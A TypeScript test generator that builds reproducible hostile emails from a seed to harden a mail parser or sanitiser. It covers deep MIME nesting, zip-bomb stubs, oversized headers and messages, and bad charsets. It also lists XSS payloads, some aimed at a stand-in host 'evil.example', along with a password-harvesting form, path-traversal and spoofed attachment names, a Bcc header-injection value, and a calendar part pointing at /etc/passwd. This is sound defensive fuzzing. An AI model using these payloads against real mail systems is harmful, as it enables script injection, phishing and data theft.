/**
 * Hostile emails, made by a seed: nested MIME, bombs, wrong charsets, calendar parts, headers without end, scripts in HTML,
 * names that lead elsewhere, and emails of 40 MB. The same number of the same seed is always the same email.
 */

/** A small generator of numbers (mulberry32), so that an email can be made again. */
function numbers(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4_294_967_296;
  };
}

export interface HostileEmail {
  kind: string;
  raw: Buffer;
}
interface Dice {
  upTo: (max: number) => number;
  one: <T>(from: readonly T[]) => T;
  bytes: (count: number) => Buffer;
}
type Make = (dice: Dice) => Buffer | string;

const HEAD =
  "Message-ID: <hostile@outside.example>\r\nFrom: Eve <eve@outside.example>\r\nTo: bea@agency.example\r\nDate: Tue, 11 Aug 2026 10:42:00 +0000\r\n";
const head = (subject: string, more = "") => `${HEAD}Subject: ${subject}\r\nMIME-Version: 1.0\r\n${more}`;

const SCRIPTS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<form action='https://evil.example'><input name=password><button>Go</button></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example/'>",
  "<style>@import 'https://evil.example/a.css'; body{background:url(https://evil.example/b)}</style>",
  "<div style='background:url(https://evil.example/c);position:fixed;inset:0'>x</div>",
  "<object data='https://evil.example/d'></object><embed src='https://evil.example/e'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<a href=' \u0001javascript:alert(1)'>x</a><a href='jav&#x09;ascript:alert(1)'>y</a>",
  "<video src='https://evil.example/v' autoplay onplay=alert(1)></video>",
  "<link rel=stylesheet href='https://evil.example/f.css'>",
  "<img srcset='https://evil.example/g 1x' src='//evil.example/h'>",
  "<table background='https://evil.example/i'><tr><td background='https://evil.example/j'>x</td></tr></table>",
  "<!--[if mso]><script>alert(1)</script><![endif]-->",
  "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
] as const;

const nested = (depth: number, inner: string): string => {
  let open = "";
  let close = "";
  for (let n = 0; n < depth; n += 1) {
    open += `Content-Type: multipart/mixed; boundary="b${n}"\r\n\r\n--b${n}\r\n`;
    close = `\r\n--b${n}--\r\n${close}`;
  }
  return `${open}${inner}${close}`;
};
const part = (type: string, body: string, more = "") => `Content-Type: ${type}\r\n${more}\r\n${body}`;
const mixed = (...parts: string[]) =>
  `Content-Type: multipart/mixed; boundary=p\r\n\r\n${parts.map((part) => `--p\r\n${part}\r\n`).join("")}--p--\r\n`;

const KINDS: Readonly<Record<string, Make>> = {
  script: ({ one, upTo }) =>
    `${head("Script")}${part("text/html; charset=utf-8", `<p>Before</p>${Array.from({ length: 1 + upTo(4) }, () => one(SCRIPTS)).join("")}<p>After</p>`)}`,
  nestedParts: ({ upTo }) =>
    `${head("Nested")}${nested(1 + upTo(upTo(3) === 0 ? 20_000 : 200), part("text/plain", "The innermost"))}`,
  nestedMessages: ({ upTo }) =>
    `${head("Messages")}${"Content-Type: message/rfc822\r\n\r\nSubject: Inner\r\n".repeat(1 + upTo(2_000))}\r\nThe end`,
  nestedHtml: ({ upTo, one }) => {
    const tag = one(["div", "blockquote", "table><tr><td", "ul><li", "b", "a href=x"]);
    return `${head("Deep")}${part("text/html", `${`<${tag}>`.repeat(1 + upTo(60_000))}Deep`)}`;
  },
  manyParts: ({ upTo }) =>
    `${head("Parts")}${mixed(...Array.from({ length: 1 + upTo(20_000) }, (_, n) => part("text/plain", `Part ${n}`)))}`,
  manyFiles: ({ upTo }) =>
    `${head("Files")}${mixed(part("text/plain", "See the files"), ...Array.from({ length: 1 + upTo(3_000) }, (_, n) => part("application/octet-stream", "x", `Content-Disposition: attachment; filename="f${n}.exe"\r\n`)))}`,
  fileNames: ({ one }) =>
    `${head("Names")}${mixed(
      part("text/plain", "See the file"),
      part(
        "application/pdf",
        "%PDF-1.7",
        `Content-Disposition: attachment; filename=${one(['"../../etc/passwd"', '"..\\\\..\\\\boot.ini"', '"\u202Efdp.exe"', '"a\u0000b.pdf"', `"${"n".repeat(5000)}.pdf"`, '"/absolute.pdf"', '".."', '"con"', '"<img src=x onerror=alert(1)>.pdf"'])}\r\n`,
      ),
    )}`,
  charset: ({ one, bytes, upTo }) =>
    Buffer.concat([
      Buffer.from(
        `${head("Charset")}Content-Type: text/plain; charset=${one(["utf-7", "x-unknown", "iso-2022-jp", "utf-16", "gb18030", "utf-8", "ebcdic", '"', "../../x", "hz-gb-2312", "big5", "koi8-r", "us-ascii"])}\r\nContent-Transfer-Encoding: ${one(["8bit", "binary", "base64", "quoted-printable", "x-uuencode", "nonsense"])}\r\n\r\n`,
      ),
      bytes(1 + upTo(20_000)),
    ]),
  encodedWords: ({ one, upTo }) =>
    `${head(`${one(["=?utf-8?B?", "=?x?Q?", "=?utf-8?Q?=00=0A=0D", "=?iso-2022-jp?B?GyRC", "=?utf-8*en?B?"])}${"QUFB".repeat(1 + upTo(3_000))}?=`)}${part("text/plain", "Words")}`,
  injected: ({ one }) =>
    `${head(`Hello${one(["\r\n Bcc: thief@example.com", "\u0000", "\u202E", "\uD800", "\u0007", " ".repeat(9000)])}`)}${part("text/plain", "Injected")}`,
  longHeader: ({ upTo, one }) =>
    `${head("Long")}${one(["X-Long", "References", "To", "Received", "Content-Type"])}: ${"<a@b.c> ".repeat(1 + upTo(300_000))}\r\n\r\nText`,
  manyHeaders: ({ upTo }) =>
    `${HEAD}${Array.from({ length: 1 + upTo(60_000) }, (_, n) => `X-${n}: a\r\n`).join("")}Subject: Many\r\n\r\nText`,
  manyReceivers: ({ upTo }) =>
    `${HEAD}Cc: ${Array.from({ length: 1 + upTo(40_000) }, (_, n) => `"N ${n}" <n${n}@outside.example>`).join(", ")}\r\nSubject: Receivers\r\n\r\nText`,
  nestedGroups: ({ upTo }) =>
    `Message-ID: <hostile@outside.example>\r\nFrom: ${"a:".repeat(1 + upTo(20_000))}b@c.d${";".repeat(50)}\r\nTo: ${"(".repeat(1 + upTo(20_000))}x\r\nSubject: Groups\r\n\r\nText`,
  calendar: ({ one, upTo }) =>
    `${head("Invitation")}${mixed(
      part("text/plain", "You are invited"),
      part(
        `text/calendar; method=${one(["REQUEST", "CANCEL", "REPLY", "X"])}`,
        `BEGIN:VCALENDAR\r\nMETHOD:${one(["REQUEST", "CANCEL", "PUBLISH"])}\r\n${"BEGIN:VEVENT\r\n".repeat(1 + upTo(5_000))}SUMMARY:<script>alert(1)</script>${"x".repeat(upTo(9_000))}\r\nDTSTART;TZID=../../x:${one(["20260811T093000Z", "99999999T999999", "", "20260811"])}\r\nRRULE:FREQ=SECONDLY;COUNT=999999999\r\nLOCATION:javascript:alert(1)\r\nATTACH:file:///etc/passwd\r\nEND:VEVENT\r\nEND:VCALENDAR`,
      ),
    )}`,
  smime: ({ one, bytes, upTo }) => {
    const type = one([
      "application/pkcs7-mime; smime-type=enveloped-data",
      "application/x-pkcs7-mime",
      "multipart/encrypted; boundary=p",
      "multipart/signed; boundary=p; protocol=x",
    ]);
    return `${head("Secret")}Content-Type: ${type}\r\nContent-Transfer-Encoding: base64\r\n\r\n--p\r\n${part("application/pkcs7-signature", bytes(1 + upTo(5_000)).toString("base64"))}\r\n--p--\r\n`;
  },
  compressed: ({ upTo }) =>
    `${head("Bomb")}${mixed(part("text/plain", "Unpack me"), part("application/zip", "UEsDBBQ".repeat(1 + upTo(50_000)), "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=bomb.zip\r\n"))}`,
  longLine: ({ upTo }) => `${head("Line")}${part("text/html", `<p>${"a".repeat(1 + upTo(4_000_000))}</p>`)}`,
  manyTags: ({ upTo, one }) =>
    `${head("Tags")}${part("text/html", one(["<p>x", "<img src=https://evil.example/a>", "<a href=https://evil.example>x</a>", "</p>", "<", "&lt;", "<!--", "&#x110000;"]).repeat(1 + upTo(60_000)))}`,
  quotedPrintable: ({ upTo, one }) =>
    `${head("Quoted")}${part("text/plain", one(["=\r\n", "=ZZ", "=00", "=3D", "= \r\n"]).repeat(1 + upTo(400_000)), "Content-Transfer-Encoding: quoted-printable\r\n")}`,
  boundary: ({ one, upTo }) => {
    const boundary = one(["", "-", '"', " ", "x".repeat(1 + upTo(5_000)), ".*+?^$", "\u0000"]);
    return `${head("Boundary")}Content-Type: multipart/mixed; boundary="${boundary}"\r\n\r\n--${boundary}\r\n\r\nOne\r\n--${boundary}\r\n\r\nTwo`;
  },
  truncated: ({ upTo, one }) => {
    const whole = `${head("Cut")}${nested(3, part("text/html", `<p>${one(SCRIPTS)}</p>`))}`;
    return whole.slice(0, upTo(whole.length));
  },
  noise: ({ bytes, upTo }) => bytes(1 + upTo(200_000)),
  empty: ({ one }) => one(["", "\r\n", "\n\n\n", "\r\n\r\n\r\n", "Subject:", ":", "From: \r\nTo: \r\n\r\n"]),
  bounce: ({ upTo }) =>
    `From: MAILER-DAEMON@outside.example\r\nTo: bea@agency.example\r\nSubject: Failed\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=p\r\n\r\n--p\r\n\r\nFailed\r\n--p\r\n${part("message/delivery-status", `Final-Recipient: rfc822; a@b.c\r\nDiagnostic-Code: smtp; ${"<script>".repeat(1 + upTo(2_000))}`)}\r\n--p\r\n${part("message/rfc822", `Message-ID: <${"m".repeat(upTo(2_000))}>\r\n\r\nx`)}\r\n--p--`,
};
const NAMES = Object.keys(KINDS);
/** Each of the last of these is as large as it may be, or larger. */
const LARGE_EVERY = 125;

function large({ one, bytes }: Dice, number: number): Buffer {
  const size = one([39_900_000, 40_000_001, 44_000_000]);
  const start = Buffer.from(
    `${head(`Large ${number}`)}Content-Type: multipart/mixed; boundary=p\r\n\r\n--p\r\n\r\nA large one\r\n--p\r\nContent-Type: application/octet-stream; name=large.bin\r\nContent-Disposition: attachment\r\nContent-Transfer-Encoding: base64\r\n\r\n`,
  );
  const line = Buffer.from(`${bytes(57).toString("base64")}\r\n`);
  const end = Buffer.from("\r\n--p--\r\n");
  return Buffer.concat([start, Buffer.alloc(Math.max(0, size - start.length - end.length), line), end]);
}

/** Makes one of them. */
export function hostileEmail(seed: number, number: number): HostileEmail {
  const next = numbers(seed * 100_003 + number);
  const dice: Dice = {
    upTo: (most) => Math.floor(next() * most),
    one: (from) => from[Math.floor(next() * from.length)] ?? (from[0] as (typeof from)[number]),
    bytes: (count) => Buffer.from(Array.from({ length: count }, () => Math.floor(next() * 256))),
  };
  if (number % LARGE_EVERY === LARGE_EVERY - 1) return { kind: "large", raw: large(dice, number) };
  const kind = NAMES[number % NAMES.length] ?? "noise";
  const body = KINDS[kind]?.(dice) ?? "";
  // Each is its own email.
  const raw = Buffer.from(Buffer.from(body).toString("latin1").replace("<hostile@", `<hostile-${number}@`), "latin1");
  return { kind, raw };
}
